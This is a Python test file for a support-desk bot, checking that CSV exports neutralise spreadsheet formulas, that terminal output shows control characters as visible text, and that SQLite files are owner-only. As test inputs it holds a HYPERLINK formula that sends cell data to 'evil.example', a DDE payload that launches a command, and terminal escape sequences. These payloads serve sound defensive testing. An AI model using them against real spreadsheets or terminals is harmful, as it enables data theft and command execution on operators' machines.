"""What reaches the operator's terminal and spreadsheet: no formulas, no terminal escapes, and a
database only its owner can read (issue 13 items 9 and 10)."""

from __future__ import annotations

import csv
import io
import json
import stat
from pathlib import Path

from bot.terminal import csv_cell, visible
from storage import Database
from tests.databases import sqlite_url
from tests.test_console_cli import deskbot

ESC_TITLE = "Payouts \x1b[2J\x1b]0;pwned\x07 stuck \x9b31m"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_csv_cells_that_look_like_formulas_are_neutralised() -> None:
    for value in ("=1+1", "+255700", "-2+3", "@SUM(A1:A9)", "\tcmd", "\r=1"):
        assert csv_cell(value) == "'" + value
    for value in ("INT-1", "Payouts stuck", "", "1=1", 3, None):
        assert csv_cell(value) == value


def test_control_characters_become_visible() -> None:
    assert visible("a\x1b[31mb\x07\x9b\x7f") == "a\\x1b[31mb\\x07\\x9b\\x7f"
    assert visible("line one\nline\ttwo") == "line one\nline\ttwo"


def test_operator_output_is_inert(tmp_path: Path) -> None:
    chat = deskbot(
        tmp_path, "chat", "--user", "amina", stdin=f"report\n{ESC_TITLE}\n{FORMULA}\n1\n1\n3\n1\n"
    )
    assert chat.returncode == 0, chat.stderr
    second = "report\n@SUM(A1:A2)\n+1 cmd|' /C calc'!A0\n1\n1\n3\n1\n"
    deskbot(tmp_path, "chat", "--user", "amina", stdin=second)
    outputs = {
        "chat": chat.stdout,
        "list": deskbot(tmp_path, "tickets", "list").stdout,
        "show": deskbot(tmp_path, "tickets", "show", "INT-1").stdout,
        "list --json": deskbot(tmp_path, "tickets", "list", "--json").stdout,
        "export json": deskbot(tmp_path, "tickets", "export", "--format", "json").stdout,
    }
    for name, text in outputs.items():
        assert "INT-1" in text, name
        for raw in ("\x1b", "\x07", "\x9b"):
            assert raw not in text, (name, raw)
    assert "\\x1b[2J" in outputs["show"] and "\\x1b[2J" in outputs["list"]
    # JSON stays exact data: the escapes decode back to what the merchant typed.
    assert json.loads(outputs["export json"])[0]["title"] == ESC_TITLE

    exported = deskbot(tmp_path, "tickets", "export", "--format", "csv").stdout
    rows = {row["reference"]: row for row in csv.DictReader(io.StringIO(exported))}
    assert rows["INT-1"]["description"] == "'" + FORMULA
    assert rows["INT-2"]["title"] == "'@SUM(A1:A2)"
    assert rows["INT-2"]["description"] == "'+1 cmd|' /C calc'!A0"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), value


# SQLite's own files: on PostgreSQL the server owns the data files and their permissions.
async def test_database_files_are_private(tmp_path: Path) -> None:
    path = tmp_path / "private.db"
    async with Database(sqlite_url(tmp_path, path.name)) as database:
        await database.upgrade()
        async with database.engine.begin() as connection:
            await connection.exec_driver_sql("CREATE TABLE probe (x INTEGER)")
        files = [path, Path(f"{path}-wal"), Path(f"{path}-shm")]
        for file in files:
            assert file.exists(), file
            assert stat.S_IMODE(file.stat().st_mode) == 0o600, (file, oct(file.stat().st_mode))


async def test_an_existing_world_readable_database_is_made_private(tmp_path: Path) -> None:
    path = tmp_path / "old.db"
    async with Database(sqlite_url(tmp_path, path.name)) as database:
        await database.upgrade()
    path.chmod(0o644)
    async with Database(sqlite_url(tmp_path, path.name)) as database:
        await database.upgrade()
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
